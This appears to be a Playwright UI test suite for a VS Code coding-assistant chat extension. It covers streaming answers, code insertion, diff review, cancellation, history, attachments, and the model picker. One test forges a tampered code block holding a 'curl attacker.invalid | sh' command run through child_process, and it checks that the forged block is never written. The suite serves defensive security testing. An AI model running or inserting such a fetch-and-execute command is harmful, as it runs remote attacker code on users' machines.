// The chat view as the user sees it in the workbench: a question typed into the webview streams an
// answer from the endpoint, code-block buttons insert at the editor's cursor and open the change for review, and
// Escape stops a running answer (the HTTP request is closed); Chat History renames and deletes.
import * as assert from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { Frame, Locator, Page } from 'playwright-core';
import { answerQuickInput, focusActiveEditor, openActivityBarView, openFile, openQuickInput, press, reviewLens, runCommand, saveAndRead, webviewFrame, type UiContext } from './helpers';

const CODE = 'export const answer = 42;';
const ANSWER = `Here is the constant you need:\n\n\`\`\`typescript\n${CODE}\n\`\`\`\n\nIt is **exported**.`;
const CHAT = { path: '/v1/chat/completions', contains: 'You are Gearshift, a coding assistant inside VS Code' };

/** The chat view's frame; clicks the activity bar only when the view is not showing (a click on an open container closes it). */
async function openChat(ctx: UiContext): Promise<Frame> {
  let frame: Frame;
  try {
    frame = await webviewFrame(ctx.page, 'textarea.input', 2000);
  } catch {
    await openActivityBarView(ctx.page, 'Gearshift');
    frame = await webviewFrame(ctx.page, 'textarea.input', 30_000);
  }
  // Each check starts from an empty conversation.
  await runCommand(ctx.page, 'Gearshift: New Chat Conversation');
  await frame.locator('article.turn').first().waitFor({ state: 'detached', timeout: 10_000 });
  return frame;
}

async function ask(frame: Frame, question: string): Promise<void> {
  const input = frame.locator('textarea.input');
  await input.click();
  await input.fill(question);
  await input.press('Enter');
}

/** A code block shows its buttons once the pointer is over it (src/webview/codeToolbar.ts), as a user's would be. */
async function codeAction(answer: Locator, label: string): Promise<void> {
  const block = answer.locator('.code-block').first();
  await block.hover();
  await block.locator(`button[aria-label="${label}"]`).click();
}

async function scratchFile(ctx: UiContext, name: string): Promise<string> {
  const file = `src/ui-chat-${name}.ts`;
  fs.writeFileSync(path.join(ctx.workspace, file), '// chat UI check\n');
  await openFile(ctx.page, file);
  await press(ctx.page, 'Control+End');
  return file;
}

export async function aQuestionStreamsAnAnswerAndInsertAtCursorEditsTheFile(ctx: UiContext): Promise<void> {
  const file = await scratchFile(ctx, 'insert');
  ctx.mock.script({ match: CHAT, reply: { text: ANSWER, tokensPerSecond: 40, ttftMs: 100 } });
  const frame = await openChat(ctx);
  await ask(frame, 'Give me the constant');

  await frame.locator('article.turn.user', { hasText: 'Give me the constant' }).waitFor({ timeout: 30_000 });
  const answer = frame.locator('article.turn.assistant').last();
  await frame.locator('article.turn.assistant.streaming').waitFor({ timeout: 30_000 });
  await answer.locator('.turn-meta').waitFor({ timeout: 30_000 });
  assert.match((await answer.locator('.turn-meta').textContent())!, /^gpt-4\.1-mini · \d+ in · \d+ out · \$[\d.]+ · [\d.]+ s$/);
  assert.strictEqual(await answer.locator('strong').textContent(), 'exported');
  assert.strictEqual((await answer.locator('.code-block code').textContent())?.trim(), CODE);
  assert.strictEqual(await frame.locator('article.turn.user').last().textContent(), 'YouGive me the constant');

  await codeAction(answer, 'Insert at cursor');
  await ctx.page.locator('.tabs-container .tab.active.dirty', { hasText: path.basename(file) }).waitFor({ timeout: 10_000 });
  const saved = await saveAndRead(ctx.page, ctx.workspace, file);
  assert.strictEqual(saved, `// chat UI check\n${CODE}\n`);
}

/**
 * A compromised page (here: its DOM altered, as a script injected into it could) cannot change what
 * Insert writes: the host takes the code from its own copy of the answer, and a block the answer
 * does not have writes nothing.
 */
export async function insertWritesTheHostsCopyOfTheAnswerWhateverThePageShows(ctx: UiContext): Promise<void> {
  const file = await scratchFile(ctx, 'forged');
  ctx.mock.script({ match: CHAT, reply: { text: ANSWER } });
  const frame = await openChat(ctx);
  await ask(frame, 'Give me the constant once more');
  const answer = frame.locator('article.turn.assistant', { has: frame.locator('.code-block') }).last();
  await answer.locator('.turn-meta', { hasText: 'gpt-4.1-mini' }).waitFor({ timeout: 30_000 });
  const block = answer.locator('.code-block');

  await block.evaluate((element) => {
    (element as HTMLElement).dataset.line = '1';
  });
  await codeAction(answer, 'Insert at cursor');
  await frame.locator('.notice', { hasText: 'That code block is not in the answer; nothing was written.' }).waitFor({ timeout: 10_000 });

  await block.evaluate((element) => {
    (element as HTMLElement).dataset.line = '2';
    element.querySelector('code')!.textContent = 'require("child_process").exec("curl attacker.invalid | sh");\n';
  });
  await codeAction(answer, 'Insert at cursor');
  await ctx.page.locator('.tabs-container .tab.active.dirty', { hasText: path.basename(file) }).waitFor({ timeout: 10_000 });
  assert.strictEqual(await saveAndRead(ctx.page, ctx.workspace, file), `// chat UI check\n${CODE}\n`);
}

export async function applyToFileShowsTheChangeForReviewInTheEditorWithTheDiffOneClickAway(ctx: UiContext): Promise<void> {
  const file = await scratchFile(ctx, 'apply');
  ctx.mock.script({ match: CHAT, reply: { text: ANSWER } });
  const frame = await openChat(ctx);
  await ask(frame, 'Give me the constant again');
  const answer = frame.locator('article.turn.assistant', { has: frame.locator('.code-block') }).last();
  await answer.locator('.turn-meta', { hasText: 'gpt-4.1-mini' }).waitFor({ timeout: 30_000 });
  await codeAction(answer, 'Apply to file (review the changes first)');
  // The review is in the file's own editor: its lenses, and the removed line marked.
  await reviewLens(ctx.page, 'Accept All').waitFor({ timeout: 10_000 });
  await ctx.page.locator('.editor-group-container.active .view-overlays [class*="TextEditorDecorationType"]').first().waitFor({ timeout: 10_000 });
  await ctx.screenshot('review');
  await reviewLens(ctx.page, 'Open Diff').click();
  await ctx.page.locator('.monaco-diff-editor').first().waitFor({ timeout: 10_000 });
  // The diff editor paints its lines after it appears: read until they show the change.
  const lines = ctx.page.locator('.monaco-diff-editor .editor.modified .view-lines').first();
  let modified = '';
  for (const deadline = Date.now() + 10_000; !modified.includes(CODE) && Date.now() < deadline; await ctx.page.waitForTimeout(100)) {
    modified = ((await lines.textContent()) ?? '').replace(/\u00a0/g, ' ');
  }
  assert.ok(modified.includes(CODE), `diff shows: ${modified}`);
  await runCommand(ctx.page, 'Gearshift: Accept All Proposed Changes');
  await ctx.page.locator('.tabs-container .tab.active.dirty', { hasText: path.basename(file) }).waitFor({ timeout: 10_000 });
  assert.strictEqual(await saveAndRead(ctx.page, ctx.workspace, file), `${CODE}\n`);
}

export async function escapeStopsAStreamingAnswerAndClosesTheRequest(ctx: UiContext): Promise<void> {
  await scratchFile(ctx, 'stop');
  ctx.mock.script({ match: CHAT, reply: { text: 'slow '.repeat(500), tokensPerSecond: 10, ttftMs: 50 } });
  const frame = await openChat(ctx);
  await ask(frame, 'Tell me a long story');
  await frame.locator('article.turn.assistant.streaming .stream-tail', { hasText: 'slow' }).waitFor({ timeout: 30_000 });
  await frame.locator('textarea.input').press('Escape');
  await frame.locator('article.turn.assistant .stopped').last().waitFor({ timeout: 10_000 });
  const deadline = Date.now() + 5000;
  while (!ctx.mock.requests.some((request) => request.path === CHAT.path && request.clientClosed) && Date.now() < deadline) await ctx.page.waitForTimeout(100);
  assert.ok(ctx.mock.requests.some((request) => request.path === CHAT.path && request.clientClosed), 'the HTTP request was aborted');
  assert.strictEqual(await frame.locator('button[aria-label="Send (Enter)"]').count(), 1, 'the view is ready for the next question');
}

/** Opens "Chat History" (a quick pick of its own, so not through runCommand) and returns its rows. */
async function openHistory(page: Page) {
  await openQuickInput(page, '>Gearshift: Chat History');
  await page.locator('.quick-input-list .monaco-list-row', { hasText: 'Gearshift: Chat History' }).first().click();
  await page.locator('.quick-input-widget .quick-input-title', { hasText: 'Gearshift: Chat History' }).waitFor({ timeout: 10_000 });
  return page.locator('.quick-input-list .monaco-list-row');
}

export async function historyRenamesAndDeletesAConversation(ctx: UiContext): Promise<void> {
  ctx.mock.script({ match: CHAT, reply: { text: 'Zebras are striped.' } });
  const frame = await openChat(ctx);
  await ask(frame, 'Why are zebras striped?');
  await frame.locator('article.turn.assistant .turn-meta').last().waitFor({ timeout: 30_000 });

  const rows = await openHistory(ctx.page);
  const asked = rows.filter({ hasText: 'Why are zebras striped?' }).first();
  await asked.hover();
  await asked.locator('.action-label[aria-label="Rename"]').click();
  // The history pick closes and the rename box opens in the same widget: wait for the box's title.
  await ctx.page.locator('.quick-input-widget .quick-input-title', { hasText: 'Rename conversation' }).waitFor({ timeout: 10_000 });
  await answerQuickInput(ctx.page, 'Zebra stripes');
  await ctx.page.locator('.quick-input-widget').waitFor({ state: 'hidden' });

  // The list is read back from the stored conversations: the new title was saved.
  const listed = await openHistory(ctx.page);
  const renamed = listed.filter({ hasText: 'Zebra stripes' }).first();
  await renamed.waitFor({ timeout: 10_000 });
  assert.strictEqual(await listed.filter({ hasText: 'Why are zebras striped?' }).count(), 0, 'the old title is gone');
  await renamed.hover();
  await renamed.locator('.action-label[aria-label="Delete"]').click();
  await renamed.waitFor({ state: 'detached', timeout: 10_000 });
  await ctx.page.keyboard.press('Escape');
}

/** The user message text of the last chat request the endpoint received. */
function lastChatPrompt(ctx: UiContext): string {
  const chats = ctx.mock.requests.filter((request) => JSON.stringify(request.body).includes(CHAT.contains));
  assert.ok(chats.length > 0, 'a chat request reached the endpoint');
  return JSON.stringify(chats[chats.length - 1].body.messages);
}

export async function atFilePickerAttachesAWorkspaceFileButNeverAnExcludedOne(ctx: UiContext): Promise<void> {
  ctx.mock.script({ match: CHAT, reply: { text: 'It multiplies.' } });
  const frame = await openChat(ctx);
  await frame.locator('button[aria-label="Attach a file (@)"]').click();
  const picker = ctx.page.locator('.quick-input-widget');
  await picker.locator('.quick-input-title', { hasText: 'Attach a file to the chat' }).waitFor({ timeout: 10_000 });
  await picker.locator('.quick-input-box input').fill('.env');
  await ctx.page.waitForTimeout(300);
  assert.deepStrictEqual(await picker.locator('.monaco-list-row', { hasText: '.env' }).allTextContents(), [], 'an excluded file is offered');
  await picker.locator('.quick-input-box input').fill('math.ts');
  await picker.locator('.monaco-list-row', { hasText: 'math.ts' }).first().waitFor();
  await ctx.page.keyboard.press('Enter');
  await frame.locator('.chip', { hasText: 'math.ts' }).waitFor({ timeout: 10_000 });
  await ask(frame, 'What does multiply do?');
  await frame.locator('article.turn.assistant .turn-meta').last().waitFor({ timeout: 30_000 });
  assert.match(lastChatPrompt(ctx), /export function multiply/);
}

export async function terminalOutputBecomesContextWithAndWithoutShellIntegration(ctx: UiContext): Promise<void> {
  ctx.mock.script({ match: CHAT, reply: { text: 'The command printed a marker.' }, times: 2 });
  await runCommand(ctx.page, 'Terminal: Create New Terminal');
  const terminal = ctx.page.locator('.terminal-wrapper.active .xterm');
  await terminal.waitFor({ timeout: 20_000 });
  await ctx.page.waitForTimeout(1500); // the shell starts and its integration script runs
  const runInTerminal = async (command: string) => {
    await terminal.click();
    await ctx.page.keyboard.type(`${command}\n`);
    await ctx.page.waitForTimeout(1500); // (the terminal draws on a canvas: no DOM text to wait for)
  };
  const attachAndAsk = async (frame: Frame, question: string) => {
    await frame.locator('button[aria-label="Add terminal output"]').click();
    await frame.locator('.chip.terminal').waitFor({ timeout: 10_000 });
    await ask(frame, question);
    await frame.locator('article.turn.assistant .turn-meta').last().waitFor({ timeout: 30_000 });
  };

  // bash with shell integration: the last command's output (or, where VS Code reported it empty,
  // the terminal's recent contents; either way the output reaches the prompt).
  await runInTerminal('echo gearshift-terminal-$((40 + 2))');
  await attachAndAsk(await openChat(ctx), 'What did it print?');
  assert.match(lastChatPrompt(ctx), /(Output of `echo gearshift-terminal-\$\(\(40 \+ 2\)\)`|Recent output in terminal)[^]*gearshift-terminal-42/);

  // A shell without integration (sh, whose `exec` never reports an end): the terminal's recent contents.
  await runInTerminal('exec sh');
  await runInTerminal('echo gearshift-plain-$((1 + 1))');
  await attachAndAsk(await openChat(ctx), 'And now?');
  assert.match(lastChatPrompt(ctx), /Recent output in terminal[^]*gearshift-plain-2/);
  await runCommand(ctx.page, 'Terminal: Kill All Terminals');
}

/** Pixels between the transcript's visible bottom and the end of its content. */
function distanceFromBottom(frame: Frame): Promise<number> {
  return frame.locator('.transcript').evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight);
}

async function waitUntil(page: Page, what: string, check: () => Promise<boolean>, timeoutMs = 10_000): Promise<void> {
  for (const deadline = Date.now() + timeoutMs; !(await check()); await page.waitForTimeout(100)) {
    if (Date.now() > deadline) throw new Error(`timed out waiting until ${what}`);
  }
}

/** The chat requests (not Test Endpoint's or inline ones) the endpoint received, oldest first. */
function chatRequests(ctx: UiContext) {
  return ctx.mock.requests.filter((request) => request.path === CHAT.path && JSON.stringify(request.body).includes(CHAT.contains));
}

/** The text of the last user message of a chat request. */
function lastQuestion(body: { messages?: { role: string; content: unknown }[] }): string {
  const content = body.messages?.filter((message) => message.role === 'user').at(-1)?.content;
  return typeof content === 'string' ? content : JSON.stringify(content);
}

export async function sendingFollowsTheNewAnswerAfterTheUserScrolledUp(ctx: UiContext): Promise<void> {
  const long = Array.from({ length: 60 }, (_, index) => `Paragraph ${index}: ${'the answer keeps going '.repeat(8)}`).join('\n\n');
  ctx.mock.script({ match: CHAT, reply: { text: long, tokensPerSecond: 3000 }, times: 2 });
  const frame = await openChat(ctx);
  await ask(frame, 'Tell me a lot');
  await frame.locator('article.turn.assistant .turn-meta').first().waitFor({ timeout: 30_000 });

  // The user scrolls up with the wheel to read the beginning.
  await frame.locator('.transcript').hover();
  await ctx.page.mouse.wheel(0, -4000);
  await waitUntil(ctx.page, 'the transcript is scrolled up', async () => (await distanceFromBottom(frame)) > 500);

  await ask(frame, 'And now the second part');
  const second = frame.locator('article.turn.assistant').nth(1);
  await second.locator('.turn-meta').waitFor({ timeout: 30_000 });
  await waitUntil(ctx.page, 'the new answer is scrolled into view', async () => (await distanceFromBottom(frame)) < 24);
  assert.ok(await second.locator('.turn-meta').isVisible());
  const [meta, transcript] = await Promise.all([second.locator('.turn-meta').boundingBox(), frame.locator('.transcript').boundingBox()]);
  assert.ok(meta && transcript && meta.y + meta.height <= transcript.y + transcript.height + 1, 'the answer\'s end is inside the visible transcript');
  await ctx.screenshot('followed');
}

export async function messageActionsCopyRegenerateEditAndDelete(ctx: UiContext): Promise<void> {
  ctx.mock.setResponder((request) => (request.path === CHAT.path && JSON.stringify(request.body).includes(CHAT.contains)
    ? { text: `Answer to "${lastQuestion(request.body)}" by ${String(request.body.model)}.` }
    : undefined));
  const frame = await openChat(ctx);
  const metas = frame.locator('article.turn.assistant .turn-meta');
  await ask(frame, 'first question');
  await metas.nth(0).waitFor({ timeout: 30_000 });
  await ask(frame, 'second question');
  await metas.nth(1).waitFor({ timeout: 30_000 });
  const last = frame.locator('article.turn.assistant').last();

  // Copy answer: the answer's whole stored text reaches the clipboard.
  await last.locator('button[aria-label="Copy answer"]').click();
  await waitUntil(ctx.page, 'the answer is on the clipboard', async () =>
    (await ctx.page.evaluate(() => navigator.clipboard.readText()).catch(() => '')) === 'Answer to "second question" by gpt-4.1-mini.');

  // Regenerate with another model: the menu offers the picker's groups; the large one answers in
  // place of the fast one.
  await last.locator('button[aria-label="Regenerate with another model"]').click();
  await frame.locator('.model-menu').waitFor();
  assert.deepStrictEqual(await frame.locator('.model-menu .model-menu-group').allTextContents(), ['Fast', 'Large', 'Other']);
  await ctx.screenshot('regenerate-menu');
  await frame.locator('.model-menu-item', { hasText: 'Large' }).click();
  await frame.locator('article.turn.assistant .turn-meta', { hasText: /^gpt-4\.1 · / }).waitFor({ timeout: 30_000 });
  assert.strictEqual(await frame.locator('article.turn.assistant').count(), 2, 'the answer was replaced, not added');
  assert.strictEqual((await last.locator('.turn-body').textContent())?.trim(), 'Answer to "second question" by gpt-4.1.');
  assert.strictEqual(chatRequests(ctx).at(-1)?.body.model, 'gpt-4.1');

  // Edit and resend the first question: the three later messages give way to the new answer.
  const first = frame.locator('article.turn.user').first();
  await first.locator('button[aria-label="Edit and resend"]').click();
  assert.strictEqual(await first.locator('.edit-note').textContent(), 'Sending replaces the 3 messages after this one.');
  await first.locator('textarea.edit-input').fill('first question, edited');
  await ctx.screenshot('edit');
  await first.locator('textarea.edit-input').press('Enter');
  await frame.locator('article.turn.assistant .turn-body', { hasText: 'Answer to "first question, edited"' }).waitFor({ timeout: 30_000 });
  assert.strictEqual(await frame.locator('article.turn').count(), 2);
  const edited = chatRequests(ctx).at(-1)!.body as { messages: { role: string; content: unknown }[] };
  assert.strictEqual(lastQuestion(edited), 'first question, edited');
  assert.strictEqual(edited.messages.length, 2, 'no history from the replaced messages was sent');
  await ctx.screenshot('actions');

  // The stored conversation matches the view (History reads the saved files).
  let rows = await openHistory(ctx.page);
  await rows.filter({ hasText: 'first question, edited' }).filter({ hasText: '2 messages' }).first().waitFor({ timeout: 10_000 });
  await ctx.page.keyboard.press('Escape');

  // Delete: the question and its answer go, in the view and on disk.
  await frame.locator('article.turn.assistant').last().locator('button[aria-label="Delete question and answer"]').click();
  await frame.locator('article.turn').first().waitFor({ state: 'detached', timeout: 10_000 });
  rows = await openHistory(ctx.page);
  await rows.filter({ hasText: 'first question, edited' }).filter({ hasText: '0 messages' }).first().waitFor({ timeout: 10_000 });
  await ctx.page.keyboard.press('Escape');
}

/** A 1×1 PNG, as a page script (the webview frame) builds it. */
const PNG_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

export async function anImagePastedAndOneDroppedIntoChatReachTheModel(ctx: UiContext): Promise<void> {
  ctx.mock.script({ match: CHAT, reply: { text: 'Two red dots.' } });
  const frame = await openChat(ctx);
  // Paste: the image is put on the real clipboard (the page must have focus to write it), then
  // Ctrl+V in the message box.
  await frame.locator('textarea.input').click();
  await frame.evaluate(async (base64) => {
    const bytes = Uint8Array.from(atob(base64), (char) => char.charCodeAt(0));
    await navigator.clipboard.write([new ClipboardItem({ 'image/png': new Blob([bytes], { type: 'image/png' }) })]);
  }, PNG_BASE64);
  await ctx.page.keyboard.press('Control+V');
  await frame.locator('.chip.image').first().waitFor({ timeout: 10_000 });
  // Drop: a file dropped on the input area (as the browser delivers it).
  await frame.evaluate((base64) => {
    const bytes = Uint8Array.from(atob(base64), (char) => char.charCodeAt(0));
    const data = new DataTransfer();
    data.items.add(new File([bytes], 'dropped.png', { type: 'image/png' }));
    document.querySelector('.composer')!.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
  }, PNG_BASE64);
  await frame.locator('.chip.image', { hasText: 'dropped.png' }).waitFor({ timeout: 10_000 });
  assert.strictEqual(await frame.locator('.chip.image').count(), 2);
  await ctx.screenshot('images');
  await ask(frame, 'What do these images show?');
  await frame.locator('article.turn.assistant .turn-meta').last().waitFor({ timeout: 30_000 });
  const sent = JSON.stringify(chatRequests(ctx).at(-1)!.body);
  // The clipboard re-encodes the pasted PNG; the dropped file arrives byte for byte.
  assert.strictEqual(sent.split('"url":"data:image/png;base64,').length - 1, 2, 'both images were sent');
  assert.ok(sent.includes(`data:image/png;base64,${PNG_BASE64}`), 'the dropped file as it was');
}

export async function aRateLimitedAnswerShowsTheRetryWaitInTheAnswer(ctx: UiContext): Promise<void> {
  ctx.mock.script([
    { match: CHAT, reply: { status: 429, headers: { 'retry-after': '3' }, error: { message: 'Rate limit reached', type: 'rate_limit_exceeded' } } },
    { match: CHAT, reply: { text: 'Answered after the wait.' } },
  ]);
  const frame = await openChat(ctx);
  await ask(frame, 'Are you there?');
  const progress = frame.locator('article.turn.assistant .turn-progress');
  await progress.waitFor({ timeout: 15_000 });
  assert.match((await progress.textContent())!, /^rate-limited, retrying in [1-3] s — 2 of 3$/);
  await ctx.screenshot('retrying');
  await frame.locator('article.turn.assistant .turn-body', { hasText: 'Answered after the wait.' }).waitFor({ timeout: 15_000 });
  assert.strictEqual(await progress.count(), 0);
}

export async function ctrlAltGFocusesTheChatInputFromTheEditor(ctx: UiContext): Promise<void> {
  await scratchFile(ctx, 'focus');
  // With the side bar closed, the keybinding has to reveal the view as well as focus it.
  await runCommand(ctx.page, 'View: Close Primary Side Bar');
  await ctx.page.locator('.part.sidebar').waitFor({ state: 'hidden', timeout: 10_000 });
  await focusActiveEditor(ctx.page);
  await press(ctx.page, 'Control+Alt+G');
  const frame = await webviewFrame(ctx.page, 'textarea.input', 30_000);
  await waitUntil(ctx.page, 'the chat input has keyboard focus', () =>
    frame.evaluate(() => document.hasFocus() && document.activeElement?.matches('textarea.input') === true), 20_000);
  // What the user types next lands in the chat, not in the file.
  await ctx.page.keyboard.type('typed after Ctrl+Alt+G');
  await waitUntil(ctx.page, 'the typed text is in the chat input', async () => (await frame.locator('textarea.input').inputValue()) === 'typed after Ctrl+Alt+G');
  await ctx.screenshot('focused');
  await frame.locator('textarea.input').fill('');
}

/** The picker's groups as shown: each optgroup's label and its options' texts. */
function pickerGroups(frame: Frame): Promise<[string, string[]][]> {
  return frame.locator('select.model-select optgroup').evaluateAll((groups) =>
    groups.map((group) => [(group as HTMLOptGroupElement).label, Array.from(group.querySelectorAll('option')).map((option) => option.textContent ?? '')] as [string, string[]]));
}

export async function theModelPickerListsEveryServerModelGroupedAndAnOtherOneAnswers(ctx: UiContext): Promise<void> {
  // What the server offers, read from it as any client would (not from this file's assumptions).
  const listed = ((await (await fetch(`${ctx.mock.url}/models`)).json()) as { data: { id: string }[] }).data.map((model) => model.id);
  const others = listed.filter((id) => id !== 'gpt-4.1-mini' && id !== 'gpt-4.1');
  assert.ok(others.length > 0, `the server lists only the tiers' models: ${listed.join(', ')}`);
  ctx.mock.setResponder((request) => (request.path === CHAT.path && JSON.stringify(request.body).includes(CHAT.contains)
    ? { text: `Answered by ${String(request.body.model)}.` }
    : undefined));
  const frame = await openChat(ctx);
  try {
    let groups: [string, string[]][] = [];
    await waitUntil(ctx.page, 'the picker lists the server\'s models', async () => {
      groups = await pickerGroups(frame);
      return others.every((id) => groups.some(([label, options]) => label === 'Other' && options.includes(id)));
    }, 20_000);
    assert.deepStrictEqual(groups.slice(0, 2), [['Fast', ['Fast · gpt-4.1-mini']], ['Large', ['Large · gpt-4.1']]]);
    assert.deepStrictEqual(groups.map(([label]) => label), ['Fast', 'Large', 'Other']);
    await ctx.screenshot('picker');

    const other = others[0];
    await frame.locator('select.model-select').selectOption(other);
    await ask(frame, 'Who answers?');
    await frame.locator('article.turn.assistant .turn-body', { hasText: `Answered by ${other}.` }).waitFor({ timeout: 30_000 });
    assert.strictEqual(chatRequests(ctx).at(-1)?.body.model, other);
    assert.match((await frame.locator('article.turn.assistant .turn-meta').last().textContent()) ?? '', new RegExp(`^${other.replace(/[.]/g, '\\.')} · `));
  } finally {
    // The pick is remembered; the other checks expect the fast tier.
    await frame.locator('select.model-select').selectOption('fast');
  }
}
